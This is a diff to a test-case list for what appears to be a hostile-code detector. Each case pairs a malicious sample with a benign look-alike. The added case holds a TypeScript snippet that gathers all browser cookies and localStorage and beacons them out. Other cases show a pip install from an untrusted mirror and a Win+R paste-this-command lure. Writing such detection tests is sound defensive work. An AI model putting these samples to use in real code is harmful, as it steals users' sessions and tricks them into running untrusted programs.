@@ -259,6 +259,13 @@ CASES = [
     ("download-and-execute", "high",
      sh("pip install --index-url https://pypi-mirror.net/simple/ acme-tools"),
      sh("pip install --index-url https://pypi.org/simple/ acme-tools")),
+    # the browser's cookies or storage taken whole in a block that sends (stop 42, round 37);
+    # one cookie set or one key read is not it
+    ("credential-access", "high",
+     sh("const ctx = { ua: navigator.userAgent, cookies: document.cookie, "
+        "local: { ...localStorage } };\nnavigator.sendBeacon(URL, JSON.stringify(ctx));", "ts"),
+     sh("document.cookie = 'theme=dark; path=/';\nconst lang = localStorage.getItem('lang');\n"
+        "navigator.sendBeacon(URL, JSON.stringify({ lang }));", "ts")),
     # social engineering: the Run dialog, a program from a host nobody vouches for
     ("remote-instructions", "high",
      "Press Win+R, paste the verification command (Ctrl+V) and press Enter to continue.\n",
